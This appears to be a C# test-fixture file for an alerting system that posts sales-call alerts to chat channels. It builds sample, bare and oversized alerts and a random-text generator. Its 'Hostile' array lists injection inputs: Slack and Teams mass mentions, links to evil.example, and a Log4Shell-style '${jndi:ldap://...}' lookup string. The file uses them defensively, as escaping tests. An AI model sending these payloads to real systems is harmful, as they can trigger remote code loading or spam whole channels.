using CallEvents.Alerting.Alerts;
using CsCheck;

namespace CallEvents.Tests.Alerting.Channels;

/// <summary>Alerts to send.</summary>
internal static class SampleAlerts
{
    public const string Id = "0123456789abcdef0123456789abcdef";
    public const string Email = "jane.doe@acme.example";
    public const string Sentence = "We are also looking at Gong.";

    /// <summary>Texts that mean something to one of the channels, and must not.</summary>
    public static readonly string[] Hostile =
    [
        "<!channel> <!here> <@U012AB3CD> <https://evil.example|click>",
        "@everyone <at>Everyone</at> @channel",
        "*bold* _italic_ ~gone~ `code` [click](https://evil.example) # Heading",
        "https://evil.example/?a=1&b=2 :tada: &lt;b&gt; </TextRun>",
        "{{ rep.name }} ${jndi:ldap://evil.example} \"quoted\" 'single' \\ back",
    ];

    public static Alert Usual { get; } =
        new()
        {
            RuleId = "competitor-mentioned",
            Title = "Prospect named a competitor",
            Severity = Severity.Warning,
            Workspace = "main",
            CallId = "call_1",
            Text = "The prospect said “Gong” at 12:05.",
            RepId = "user_1",
            RepName = "Ada Example",
            Prospect = Email,
            ProspectEmail = Email,
            CreatedAt = new(2026, 11, 28, 15, 3, 20, TimeSpan.FromHours(1)),
            ObservedAt = new(2026, 11, 28, 14, 45, 2, TimeSpan.Zero),
            Outcome = "follow_up",
            CoachingScore = 58.5,
            DurationSeconds = 1842,
            Snippets = [new Snippet("prospect", 725.4, Sentence, "Gong")],
            Link = "https://app.example.com/calls/call_1",
            Revision = 20,
        };

    /// <summary>A call of which little is known.</summary>
    public static Alert Bare { get; } =
        Usual with
        {
            RepId = null,
            RepName = null,
            Prospect = null,
            ProspectEmail = null,
            Outcome = null,
            CoachingScore = null,
            DurationSeconds = null,
            Snippets = [],
            Link = null,
        };

    /// <summary>Each text is as long as the character makes it, many times over any limit.</summary>
    public static Alert Longest(string character) => With(string.Concat(Enumerable.Repeat(character, 30_000)));

    /// <summary>Every text that comes from outside is this one.</summary>
    public static Alert With(string text) =>
        Usual with
        {
            Title = text,
            Text = text,
            RepName = text,
            RepId = text,
            Prospect = text,
            Outcome = text,
            CallId = $"call_{text}",
            Snippets = [.. Enumerable.Range(0, 3).Select(_ => new Snippet(text, 5, text, text))],
            Link = $"https://app.example.com/calls/{new string('x', 1900)}",
        };

    public static Notification Of(Alert alert) => new AlertNotification(Id, alert);

    public static Notification DigestOf(DigestReason reason, IEnumerable<Alert> alerts) =>
        new DigestNotification(Id, Digest.Of(reason, alerts));

    /// <summary>So many alerts like one, of as many rules, each a minute older than the last.</summary>
    public static Notification DigestOf(Alert alert, int count) =>
        DigestOf(
            DigestReason.Throttle,
            Enumerable
                .Range(0, count)
                .Select(index => alert with { RuleId = $"rule-{index}", CreatedAt = alert.CreatedAt.AddMinutes(-index) })
        );

    /// <summary>Any text: with controls, marks, halves of surrogate pairs, markup, and many emoji.</summary>
    public static Gen<string> Texts { get; } =
        Gen.OneOf<string>(
                Gen.String,
                Gen.Char['\u0000', '\uFFFF'].Select(letter => letter.ToString()),
                Gen.OneOf([.. Hostile]),
                Gen.OneOf("👩‍👩‍👧‍👦", "e\u0301", "\uD83D", "\uDE00", "\u202E", "\r\n", "&", "<", "\"", "\\", "\u0007", "東京")
            )
            .Array[0, 30]
            .Select(Gen.Int[1, 40], (parts, times) => string.Concat(Enumerable.Repeat(string.Concat(parts), times)));
}
